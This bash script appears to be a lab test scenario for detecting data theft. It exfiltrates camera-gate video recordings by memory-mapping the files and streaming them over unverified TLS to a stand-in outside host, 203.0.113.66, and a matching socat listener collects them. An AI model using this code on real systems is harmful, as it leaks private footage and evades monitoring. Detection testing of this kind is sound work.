#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export half=report tool=python3 far=out ready=out:9443 seconds=34 parts=dns,camera-gate,recorder-gate,nas,outside-web
# A program maps recordings into its memory, reads none of them by a call, and sends them outside from there, encrypted.
if [ "$1" = out ]; then
	mkdir -p "$LAB/away"; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj /CN=x -keyout "$LAB/b.key" -out "$LAB/b.pem" 2>/dev/null
	exec timeout 60 socat -u OPENSSL-LISTEN:9443,bind=203.0.113.66,reuseaddr,verify=0,cert="$LAB"/b.pem,key="$LAB"/b.key "CREATE:$LAB/away/all"
fi
sleep 12; timeout 30 python3 -c 'import glob, mmap, os, socket, ssl, sys, time
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
s = c.wrap_socket(socket.create_connection(("203.0.113.66", 9443)))
for path in sorted(glob.glob(sys.argv[1] + "/00[0-4].mp4")):
    file = os.open(path, os.O_RDONLY)
    held = mmap.mmap(file, 0, prot=mmap.PROT_READ); os.close(file)
    for at in range(0, len(held), 16384): s.sendall(held[at:at + 16384])
    time.sleep(1)' "$LAB/recordings/gate"
sleep 5; [ "$(stat -c %s "$LAB/away/all")" -gt 400000 ]
